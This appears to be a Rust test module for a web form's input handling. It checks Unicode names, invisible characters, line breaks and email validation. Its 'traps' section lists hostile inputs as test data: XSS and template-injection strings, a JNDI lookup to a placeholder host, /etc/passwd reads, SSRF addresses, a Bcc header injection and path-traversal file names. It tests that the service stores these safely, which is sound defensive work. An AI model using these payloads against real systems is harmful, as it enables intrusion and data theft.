//! Rows 41 to 56: what people type, and what is made to look like it.

use crate::body::{file_part, joined, text_part};
use crate::case::{Case, Says, accepted, faulty, given, refused};
use crate::filled::{registration, report, update};
use crate::site::escaped;
use crate::table::{How, Row, cases, row, visit};
use crate::visit::Visit;
use crate::wire::post;
use schema::submission::kinds::Flag;

pub(crate) fn rows() -> Vec<Row> {
    [names(), signs(), addresses(), traps()].into_iter().flatten().collect()
}

fn named(name: &str, typed: &str, stored: &str) -> Case {
    accepted(name, update().with("submitter_name", typed).checked()).stores("submitter_name", stored)
}

fn refused_name(name: &str, typed: &str, fault: &'static str) -> Case {
    faulty(name, &update().with("submitter_name", typed), Says::Fault("update", "submitter_name", fault, 0))
}

fn names() -> Vec<Row> {
    let long = "ng".repeat(60);
    let pasted_number = registration().with("number", "\u{202D}0123456\u{202C}");
    let sound =
        ["Q", "O’Brien-Ngũyễn", "X Æ A-12", "محمد بن سلمان", "Александр", "王秀英", "maría josé", long.as_str()];
    vec![
        cases(
            41,
            "unseen characters around a name",
            vec![
                named("spaces", "  Ana \t", "Ana"),
                named("NBSP and ZWSP", "\u{A0}\u{200B}Ana\u{200B}\u{3000}", "Ana"),
            ],
        ),
        cases(42, "names as they are", sound.map(|name| named(name, name, name)).into()),
        visit(43, "the same name composed and not", composed_and_not),
        cases(
            44,
            "marks heaped on letters",
            vec![
                refused_name("50 marks", &format!("A{}", "\u{302}".repeat(50)), "unwanted"),
                faulty(
                    "10,000 marks",
                    &report().with("details", format!("a{}", "\u{301}".repeat(10_000))),
                    Says::Fault("report", "details", "unwanted", 0),
                ),
            ],
        ),
        cases(
            45,
            "characters that turn the direction",
            vec![
                named("override", "Ana \u{202E}anA", "Ana anA"),
                named("isolate", "\u{2066}Ana\u{2069}", "Ana"),
                named("mark", "Ana\u{200F} B", "Ana B"),
                accepted("number", pasted_number.checked()).stores("number", "0123456"),
                accepted("address", update().with("email", "\u{202A}ana@example.org\u{202C}").checked())
                    .stores("email", "ana@example.org"),
                accepted("removed from longer text", report().with("details", "row \u{202E}45\u{2069}").checked())
                    .stores("details", "row 45"),
            ],
        ),
    ]
}

/// Row 43: what was typed with a mark of its own is stored as what was typed in one.
fn composed_and_not(visit: &Visit<'_>) {
    for words in ["row 43 Jose\u{301}", "row 43 José"] {
        let kept = visit.hand_in(&report().telling(words));
        assert_eq!(given(&visit.submission(&kept.row), "details"), Some("row 43 José"));
    }
}

fn signs() -> Vec<Row> {
    let in_text = |name: &str, typed: &str, stored: &str| {
        accepted(name, report().with("details", typed).checked()).stores("details", stored)
    };
    let pictures = "row 46 👩‍👩‍👧 🇺🇸 \u{FFFD} \u{E000}";
    let controls = ["\0", "\u{1}", "\u{8}", "\u{E}", "\u{1F}", "\u{7F}", "\u{9D}"];
    let mut lines: Vec<Case> = controls
        .iter()
        .map(|control| refused_name(&format!("{control:?}"), &format!("An{control}a"), "unwanted"))
        .collect();
    // Some are old line ends: what breaks the line is refused for that.
    lines.extend(
        ["\u{B}", "\u{C}", "\u{85}"].map(|end| refused_name(&format!("{end:?}"), &format!("An{end}a"), "not-one-line")),
    );
    lines.push(in_text("taken out of longer text", "row\u{1} 48\u{7F}", "row 48"));
    let breaks = ["\u{2028}", "\u{2029}", "\r", "\n", "\r\n"];
    let broken = breaks.iter().flat_map(|sign| {
        let mail = update().with("email", format!("ana@example.org{sign}b"));
        [
            refused_name(&format!("{sign:?} in a name"), &format!("Ana{sign}B"), "not-one-line"),
            faulty(format!("{sign:?} in an address"), &mail, Says::Fault("update", "email", "not-one-line", 0)),
        ]
    });
    vec![
        cases(
            46,
            "pictures, flags, private signs",
            vec![
                in_text("pictures", pictures, pictures),
                named("in a name", "Ana 🕊\u{FE0F}", "Ana 🕊\u{FE0F}"),
                refused_name("a noncharacter", "Ana\u{FFFF}", "unwanted"),
                in_text("a noncharacter in longer text", "row\u{FFFE} 46", "row 46"),
            ],
        ),
        cases(
            47,
            "letters that look like others",
            vec![named("аdmin", "\u{430}dmin", "\u{430}dmin").flagged(Flag::MixedScripts)],
        ),
        cases(48, "control characters", lines),
        cases(49, "line breaks in one line", broken.collect()),
    ]
}

fn addresses() -> Vec<Row> {
    let mail = |address: &str| accepted(address, update().with("email", address).checked()).stores("email", address);
    let wrong = |address: &str| faulty(address, &update().with("email", address), Says::Wrong("update", "email"));
    let domain = |length: usize| {
        let labels = format!("{}.{}.{}.", "b".repeat(63), "c".repeat(63), "d".repeat(57));
        format!("{}@{labels}{}", "a".repeat(64), "e".repeat(length - 64 - 1 - labels.len()))
    };
    let broken = ["a@b.org\r\nBcc: x@y.org", "a@b.org%0d%0aBcc: x@y.org"];
    vec![
        // No mail leaves the function; what an address may be is decided here, once, for all that is sent later.
        cases(
            50,
            "an address that brings a second one",
            vec![
                faulty("CR LF", &update().with("email", broken[0]), Says::Fault("update", "email", "not-one-line", 0)),
                wrong(broken[1]),
            ],
        ),
        cases(
            51,
            "addresses of mail",
            vec![
                mail(&domain(254)),
                mail("a+b@example.org"),
                mail("ana@bücher.example"),
                faulty("255", &update().with("email", domain(255)), Says::Html("a".repeat(64))),
                wrong("josé@correo.mx"),
                wrong("\"a b\"@example.org"),
                wrong("a@localhost"),
                wrong("a@[127.0.0.1]"),
                wrong("a@b.org, c@d.org"),
                wrong("Ana <a@b.org>"),
            ],
        ),
    ]
}

/// Texts that some program down the line might take for more than texts. They are stored as they came.
fn literal(number: u32, name: &'static str, texts: &[&str]) -> Row {
    let literally = |text: &&str| {
        let line = format!("{text} row {number}");
        let echoed = escaped(&line).replace("&#39;", "&#x27;");
        let filled = report().with("details", &line).with("about", &line);
        let case = accepted(*text, filled.checked()).stores("details", &line).stores("about", &line);
        let raw = line.contains(['<', '"']);
        let case = if raw { case.lacks(&line) } else { case };
        if echoed.contains('&') { case } else { case.says(Says::Html(echoed)) }
    };
    cases(number, name, texts.iter().map(literally).collect())
}

fn traps() -> Vec<Row> {
    let html = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "${jndi:ldap://x.example/a}",
        "{% include \"/etc/passwd\" %}",
    ];
    let yaml =
        ["yes", "0123", "1e3", "a: b", "- a", "#", "!!python/object", "&a", "|", "---", "@a", "%a", "*a", "`a", "null"];
    let sheet = ["=HYPERLINK(1)", "@SUM(1)", "-1+1", "+1"];
    let requests = ["http://169.254.169.254/latest/", "file:///etc/passwd", "gopher://x.example/"];
    let round_trip =
        "that promoted YAML reads back as the identical text is a property test of crates/schema/src/promotion.rs";
    let mut in_yaml = literal(53, "signs of YAML", &yaml);
    in_yaml.how.push(How::Elsewhere(round_trip));
    vec![
        literal(52, "signs of HTML and of templates", &html),
        in_yaml,
        literal(54, "signs of spreadsheets", &sheet),
        row(55, "names of files", vec![How::Visit(super::photos::file_names), How::Cases(file_fields())]),
        // The handler holds nothing that could ask: its store is all it is given.
        literal(56, "addresses that a careless program would open", &requests),
    ]
}

/// A form without a photo drops files that it did not ask for, whatever they are called.
fn file_fields() -> Vec<Case> {
    let names = ["../../x", "C:\\x", "con", ".jpg.php", "a%00.jpg"];
    let sent = |name: &str| {
        let details = format!("row 55 {name}");
        let parts = [
            text_part("kind_of", b"other"),
            text_part("details", details.as_bytes()),
            file_part("stray", name, "image/jpeg", b"x"),
        ];
        post("/send/tell-us/check", "multipart/form-data; boundary=x", joined("x", &parts))
    };
    let mut all: Vec<Case> = names.iter().map(|name| accepted(*name, sent(name))).collect();
    let short = registration().without("shown_name");
    all.push(refused("no name at all", short.checked(), 422).says(Says::Ask("register", "shown_name")));
    all
}
